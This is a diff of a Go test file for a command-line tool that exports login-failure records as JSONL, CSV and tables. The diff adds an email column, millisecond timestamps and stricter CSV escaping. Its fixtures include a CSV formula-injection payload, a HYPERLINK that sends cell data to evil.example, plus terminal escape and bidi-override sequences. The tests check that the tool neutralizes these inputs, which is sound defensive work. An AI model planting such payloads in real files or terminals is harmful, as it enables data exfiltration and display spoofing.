@@ -29,7 +29,7 @@ func TestRun_jsonl(t *testing.T) {
 		t.Fatalf("got %d lines, want 23", len(recs))
 	}
 	first := recs[0]
-	if first.Type != "Login" || first.Timestamp == nil || *first.Timestamp != "2026-11-01T12:00:00Z" ||
+	if first.Type != "Login" || first.Timestamp == nil || *first.Timestamp != "2026-11-01T12:00:00.000Z" ||
 		first.Message != nil || first.RemoteAddress != "198.51.100.1" {
 		t.Errorf("first record = %+v", first)
 	}
@@ -47,7 +47,7 @@ func TestRun_jsonl_keyOrder(t *testing.T) {
 		Type: riskcloud.LoginFail, Timestamp: testEnd})
 
 	res := harness{env: tokenEnv(srv)}.run(t, "failures")
-	want := `{"type":"LoginFail","timestamp":"2026-11-01T08:00:00.5Z","message":"Bad <credentials> & more","remoteAddress":"192.0.2.7"}` + "\n"
+	want := `{"type":"LoginFail","timestamp":"2026-11-01T08:00:00.500Z","message":"Bad <credentials> & more","remoteAddress":"192.0.2.7","email":null}` + "\n"
 	if res.code != exitOK || res.stdout != want {
 		t.Errorf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
 	}
@@ -71,11 +71,11 @@ func TestRun_csv(t *testing.T) {
 		t.Fatal(err)
 	}
 	want := [][]string{
-		{"timestamp", "type", "remote_address", "message"},
-		{"2026-11-01T12:00:00Z", "LoginFail", "'+1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
-		{"2026-11-01T11:59:00Z", "LoginFail", "'-2+3", "'@SUM(1+1)"},
-		{"2026-11-01T10:59:00Z", "LoginFail", "198.51.100.2", "Bad credentials"},
-		{"2026-11-01T10:57:00Z", "LoginFail", "198.51.100.4", "Bad credentials"},
+		{"timestamp", "type", "remote_address", "message", "email"},
+		{"2026-11-01T12:00:00.000Z", "LoginFail", "'+1", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, ""},
+		{"2026-11-01T11:59:00.000Z", "LoginFail", "'-2+3", "'@SUM(1+1)", ""},
+		{"2026-11-01T10:59:00.000Z", "LoginFail", "198.51.100.2", "Bad credentials", ""},
+		{"2026-11-01T10:57:00.000Z", "LoginFail", "198.51.100.4", "Bad credentials", ""},
 	}
 	if len(rows) != len(want) {
 		t.Fatalf("got %d rows, want %d:\n%s", len(rows), len(want), res.stdout)
@@ -97,7 +97,7 @@ func TestRun_jsonl_nonGraphicEscaped(t *testing.T) {
 	srv.Add(riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: testEnd, Message: msg, RemoteAddress: "10.0.0.1\u202e\x1b[2J"})
 
 	res := harness{env: tokenEnv(srv)}.run(t, "--format", "jsonl", "failures")
-	want := `{"type":"LoginFail","timestamp":"2026-11-01T12:00:00Z","message":"\u009b2J\u009d0;evil\u009cBad\u007f\u200e credentials\u2066","remoteAddress":"10.0.0.1\u202e\u001b[2J"}` + "\n"
+	want := `{"type":"LoginFail","timestamp":"2026-11-01T12:00:00.000Z","message":"\u009b2J\u009d0;evil\u009cBad\u007f\u200e credentials\u2066","remoteAddress":"10.0.0.1\u202e\u001b[2J","email":null}` + "\n"
 	if res.code != exitOK || res.stdout != want {
 		t.Fatalf("exit %d, stdout\n%s\nwant\n%s", res.code, res.stdout, want)
 	}
@@ -107,8 +107,8 @@ func TestRun_jsonl_nonGraphicEscaped(t *testing.T) {
 	}
 }
 
-// TestRun_csv_terminal checks that CSV on a terminal loses control
-// sequences as the table does, and CSV to a file keeps them.
+// TestRun_csv_terminal checks that CSV loses control sequences as the
+// table does, on a terminal and in a file alike (rough edge 7).
 func TestRun_csv_terminal(t *testing.T) {
 	t.Parallel()
 	srv := newServer(t)
@@ -119,13 +119,13 @@ func TestRun_csv_terminal(t *testing.T) {
 		stdoutTTY bool
 		want      string
 	}{
-		{"terminal", true, "2026-11-01T12:00:00Z,LoginFail,'=1+1,Bad credentials\n"},
-		{"file", false, "2026-11-01T12:00:00Z,LoginFail,\x1b[0m=1+1\u202e,\x1b]0;evil\x07Bad\u009b2J credentials\n"},
+		{"terminal", true, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,\n"},
+		{"file", false, "2026-11-01T12:00:00.000Z,LoginFail,'=1+1,Bad credentials,\n"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			res := harness{env: tokenEnv(srv), stdoutTTY: tt.stdoutTTY}.run(t, "--format", "csv", "failures")
-			want := "timestamp,type,remote_address,message\n" + tt.want
+			want := "timestamp,type,remote_address,message,email\n" + tt.want
 			if res.code != exitOK || res.stdout != want {
 				t.Errorf("exit %d, stdout %q, want %q", res.code, res.stdout, want)
 			}
@@ -137,7 +137,7 @@ func TestRun_csv_emptyHasHeader(t *testing.T) {
 	t.Parallel()
 	srv := newServer(t)
 	res := harness{env: tokenEnv(srv)}.run(t, "--format", "csv", "logins")
-	if res.code != exitOK || res.stdout != "timestamp,type,remote_address,message\n" {
+	if res.code != exitOK || res.stdout != "timestamp,type,remote_address,message,email\n" {
 		t.Errorf("exit %d, stdout %q", res.code, res.stdout)
 	}
 }
@@ -154,8 +154,8 @@ func TestRun_table(t *testing.T) {
 		t.Fatalf("exit %d, stderr %q", res.code, res.stderr)
 	}
 	want := "" +
-		"TIMESTAMP                 TYPE       REMOTE ADDRESS  MESSAGE\n" +
-		"2026-11-01T12:00:00.000Z  LoginFail  10.0.0.1        Bad credentials  Injected line\n" +
+		"TIMESTAMP                 TYPE       REMOTE ADDRESS                           MESSAGE\n" +
+		"2026-11-01T12:00:00.000Z  LoginFail  10.0.0.1                                 Bad credentials  Injected line\n" +
 		"2026-11-01T11:59:59.000Z  Login      2001:db8::1\n"
 	if res.stdout != want {
 		t.Errorf("stdout\n%q\nwant\n%q", res.stdout, want)
